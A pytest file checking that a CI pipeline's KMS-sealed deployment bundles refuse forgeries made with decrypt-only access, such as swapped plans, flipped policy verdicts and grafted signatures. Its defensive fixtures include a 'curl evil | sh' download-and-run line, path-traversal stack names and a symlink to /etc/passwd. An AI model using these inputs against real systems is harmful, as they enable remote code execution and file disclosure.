"""Forged bundles, made with Decrypt alone, are refused (exit 4) — against the emulator's KMS.

The forger (tests/unit/scripts/ci/forger.py) recovers the data key with `kms.decrypt`, edits, fixes every
sha256 field and re-seals under the same data key: exactly issue 18's reproduction. What it cannot
do is sign with the plan or the policy key; that is all that refuses it here. (The emulator does
not enforce key policies: that a forger *cannot* call kms:Sign is the key policy's job in AWS,
docs/adr/0013; the forger here simply never calls it.)
"""

from __future__ import annotations

import base64
import dataclasses
import io
import json
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from scripts.ci import bundle, signing
from scripts.ci.exitcodes import STALE, CiError
from scripts.ci.manifest import PLANNED, Manifest, PolicyVerdict, StackEntry, StateRef
from scripts.ci.stacks import sha256_bytes
from tests.unit.scripts.ci.forger import DecryptOnly, forge
from tests.unit.scripts.ci.kmskeys import kms_client, make_keys

NET = "dev-network"
PLAN6 = b'{"resource_changes": [{"change": {"after": {"desired_count": 6}}}]}'
PLAN7 = b'{"resource_changes": [{"change": {"after": {"desired_count": 7}}}]}'


@pytest.fixture(scope="module")
def kms(aws_env: dict[str, str]) -> Any:
    return kms_client(aws_env["AWS_ENDPOINT_URL"])


@pytest.fixture(scope="module")
def keys(kms: Any) -> bundle.Keys:
    return make_keys(kms)


def _files(plan: bytes = PLAN6) -> dict[str, bytes]:
    return {bundle.plan_member(NET): b"TFPLAN" + plan, bundle.plan_json_member(NET): plan}


def _manifest(bundle_id: str = "b-1") -> Manifest:
    files = _files()
    return Manifest("dev", bundle_id, "2026-01-01T00:00:00+00:00", "2026-01-01T08:00:00+00:00", "c" * 40, "1.11.4",
                    [StackEntry(NET, PLANNED, [], "s", "l", StateRef(True, 3, "lin"), True,
                                sha256_bytes(files[bundle.plan_member(NET)]),
                                sha256_bytes(files[bundle.plan_json_member(NET)]))])


def _verdict(passed: bool) -> PolicyVerdict:
    return PolicyVerdict(passed, 10, 0 if passed else 1, "3.2", "2026-01-01T00:10:00+00:00")


def _planned(path: Path, kms: Any, keys: bundle.Keys, bundle_id: str = "b-1") -> Path:
    bundle.write(path, _manifest(bundle_id), _files(), kms=kms, keys=keys)
    return path


def _judged(path: Path, kms: Any, keys: bundle.Keys, passed: bool, bundle_id: str = "b-1") -> Path:
    _planned(path, kms, keys, bundle_id)
    opened = bundle.read(path, kms=kms, environment="dev", keys=keys, verify_policy=False)
    bundle.write_verdict(path, opened, _verdict(passed), kms=kms, keys=keys)
    return path


def _refused(path: Path, kms: Any, keys: bundle.Keys, why: str, **kwargs: Any) -> None:
    with pytest.raises(CiError, match=why) as err:
        bundle.read(path, kms=kms, environment="dev", keys=keys, **kwargs)
    assert err.value.exit_code == STALE and "refused" in str(err.value)


def test_plan_and_policy_stages_produce_a_bundle_apply_accepts(kms: Any, keys: bundle.Keys, tmp_path: Path) -> None:
    path = _judged(tmp_path, kms, keys, passed=True)
    opened = bundle.read(path, kms=kms, environment="dev", keys=keys, stack_names=[NET])
    assert opened.manifest.policy == _verdict(True) and opened.files == _files()
    assert b"desired_count" not in (path / bundle.SEALED).read_bytes()
    # Positive control for the forger: a re-seal that changes nothing is still accepted, so every
    # refusal below is the signature's doing, not a broken forgery.
    forger = DecryptOnly(kms)
    forge(path, forger, lambda m, f: None)
    assert forger.calls == ["decrypt"]
    assert bundle.read(path, kms=kms, environment="dev", keys=keys).manifest.policy == _verdict(True)


def _swap_plan(m: dict[str, Any], f: dict[str, bytes]) -> None:
    f.update(_files(PLAN7))  # sha256 fields are fixed by the forger


def _set(**fields: Any) -> Callable[[dict[str, Any], dict[str, bytes]], None]:
    return lambda m, f: m.update(fields)


PLAN_FORGERIES: dict[str, tuple[Callable[[dict[str, Any], dict[str, bytes]], None], str]] = {
    "swapped plan, hashes fixed (desired_count 6 -> 7)": (_swap_plan, "not as the plan stage signed it"),
    "expiry pushed out": (_set(expires_at="2999-01-01T00:00:00+00:00"), "not as the plan stage signed it"),
    "commit relabelled": (_set(git_commit="f" * 40), "not as the plan stage signed it"),
    "state serial moved": (lambda m, f: m["stacks"][0]["state"].update(serial=99), "not as the plan stage signed it"),
    "plan signature dropped": (lambda m, f: f.__delitem__(bundle.PLAN_SIGNATURE), "no 'signatures/plan.json'"),
    "unknown member": (lambda m, f: f.update({"stacks/dev-network/hook.sh": b"curl evil | sh"}), "unknown member"),
    "member of a deferred stack name": (lambda m, f: f.update({bundle.plan_member("dev-extra"): b"x"}),
                                        "unknown member"),
    "stack name with ../": (lambda m, f: m["stacks"][0].update(name="dev-network/../../../escape"),
                            "no environment 'dev' can have"),
    "verdict written without the policy key": (_set(policy=dataclasses.asdict(_verdict(True))),
                                               "carries no policy-stage signature"),
}


@pytest.mark.parametrize("name", sorted(PLAN_FORGERIES))
def test_a_decrypt_only_forgery_of_a_planned_bundle_is_refused(kms: Any, keys: bundle.Keys, tmp_path: Path,
                                                               name: str) -> None:
    change, why = PLAN_FORGERIES[name]
    path = _planned(tmp_path, kms, keys)
    forge(path, DecryptOnly(kms), change)
    _refused(path, kms, keys, why)


def test_a_failed_verdict_flipped_to_passed_is_refused(kms: Any, keys: bundle.Keys, tmp_path: Path) -> None:
    path = _judged(tmp_path, kms, keys, passed=False)
    forge(path, DecryptOnly(kms), lambda m, f: m["policy"].update(passed=True, checks_failed=0))
    _refused(path, kms, keys, "policy verdict is not as the policy stage signed it")


def test_a_passed_verdict_does_not_carry_over_to_other_plans(kms: Any, keys: bundle.Keys, tmp_path: Path) -> None:
    """The verdict is bound to the plan digest: a passed verdict + its signature, moved onto a swapped
    plan (re-signed? impossible) or another bundle, is refused."""
    passed = _judged(tmp_path / "a", kms, keys, passed=True)
    forge(passed, DecryptOnly(kms), _swap_plan)  # the plan signature fails first
    _refused(passed, kms, keys, "not as the plan stage signed it")

    donor = _judged(tmp_path / "donor", kms, keys, passed=True, bundle_id="b-donor")
    donor_sig = DecryptOnlyReader(kms).member(donor, bundle.POLICY_SIGNATURE)
    target = _judged(tmp_path / "target", kms, keys, passed=False, bundle_id="b-target")

    def graft(m: dict[str, Any], f: dict[str, bytes]) -> None:
        m["policy"] = dataclasses.asdict(_verdict(True))
        f[bundle.POLICY_SIGNATURE] = donor_sig

    forge(target, DecryptOnly(kms), graft)
    _refused(target, kms, keys, "policy verdict is not as the policy stage signed it")


class DecryptOnlyReader:
    """Reads one member of a bundle with Decrypt alone (via a no-op forge that captures it)."""

    def __init__(self, kms: Any):
        self.kms = DecryptOnly(kms)

    def member(self, path: Path, name: str) -> bytes:
        seen: dict[str, bytes] = {}
        forge(path, self.kms, lambda m, f: seen.update({name: f[name]}))
        return seen[name]


def test_a_bundle_sealed_and_signed_under_keys_of_the_forgers_own_is_refused(kms: Any, keys: bundle.Keys,
                                                                           tmp_path: Path) -> None:
    """A forger with full rights on keys of its own: its envelope fails the pinned key, its
    signatures fail the pinned signing keys."""
    own = make_keys(kms)
    foreign = _planned(tmp_path / "foreign", kms, own)
    _refused(foreign, kms, keys, "not the environment's key")

    ours = _planned(tmp_path / "ours", kms, keys)
    own_sig = signing.sign(kms, own.plan, signing.PLAN,
                           bundle._plan_statement(_manifest(), _files(PLAN7), bundle.key_arn(kms, keys.encryption)))

    def resign(m: dict[str, Any], f: dict[str, bytes]) -> None:
        _swap_plan(m, f)
        f[bundle.PLAN_SIGNATURE] = own_sig.to_json()

    forge(ours, DecryptOnly(kms), resign)
    _refused(ours, kms, keys, "not as the plan stage signed it")


def test_a_stack_the_synth_does_not_have_is_refused_before_any_path_is_built(kms: Any, keys: bundle.Keys,
                                                                            tmp_path: Path) -> None:
    path = _planned(tmp_path, kms, keys)
    _refused(path, kms, keys, "synthesized dev does not have: dev-network", stack_names=["dev-state"])


def test_links_and_other_non_files_in_the_archive_are_refused(kms: Any, keys: bundle.Keys, tmp_path: Path) -> None:
    path = _planned(tmp_path, kms, keys)

    def link(tar: tarfile.TarFile) -> None:
        info = tarfile.TarInfo("stacks/dev-network/escape")
        info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
        tar.addfile(info, io.BytesIO(b""))

    forge(path, DecryptOnly(kms), lambda m, f: None, extra=link)
    _refused(path, kms, keys, "is not a regular file")


def test_an_edited_plaintext_manifest_is_refused(kms: Any, keys: bundle.Keys, tmp_path: Path) -> None:
    path = _planned(tmp_path, kms, keys)
    text = (path / "manifest.json").read_text().replace('"c' + "c" * 39, '"d' + "c" * 39)
    (path / "manifest.json").write_text(text)
    _refused(path, kms, keys, "differs from the sealed manifest")


def test_signatures_name_their_purpose(kms: Any, keys: bundle.Keys) -> None:
    """A plan-key signature over a statement is not a policy signature, even with the same digest."""
    sig = signing.sign(kms, keys.plan, signing.PLAN, {"x": 1})
    with pytest.raises(signing.SignatureError, match="where a"):
        signing.verify(kms, keys.policy, signing.POLICY, {"x": 1}, sig)
    relabelled = dataclasses.replace(sig, purpose=signing.POLICY, digest=signing.digest(signing.POLICY, {"x": 1}))
    with pytest.raises(signing.SignatureError):
        signing.verify(kms, keys.policy, signing.POLICY, {"x": 1}, relabelled)
    assert base64.b64decode(sig.signature) and json.loads(sig.to_json())["key_arn"].startswith("arn:aws:kms:")


def test_unsealed_files_live_in_a_private_directory_removed_afterwards() -> None:
    with bundle.unsealed({"stacks/a/plan.tfplan": b"x"}) as root:
        assert (root.stat().st_mode & 0o777) == 0o700
        assert ((root / "stacks/a/plan.tfplan").stat().st_mode & 0o777) == 0o600
    assert not root.exists()


def test_unsealed_never_writes_outside_its_directory(tmp_path: Path) -> None:
    escape = tmp_path / "escaped.json"
    with pytest.raises(CiError, match="outside") as err, \
            bundle.unsealed({f"stacks/x/../../../../../../..{escape}": b"x"}):
        pass
    assert err.value.exit_code == STALE and not escape.exists()


def test_without_the_plan_key_no_bundle_is_written(kms: Any, keys: bundle.Keys, tmp_path: Path) -> None:
    """A stage that cannot sign (in AWS: a role the key policy does not name) writes nothing."""
    unsigned = dataclasses.replace(keys, plan="alias/not-the-plan-key")
    with pytest.raises(CiError, match="cannot sign the bundle") as err:
        bundle.write(tmp_path, _manifest(), _files(), kms=kms, keys=unsigned)
    assert err.value.exit_code == 1 and not (tmp_path / bundle.SEALED).exists()
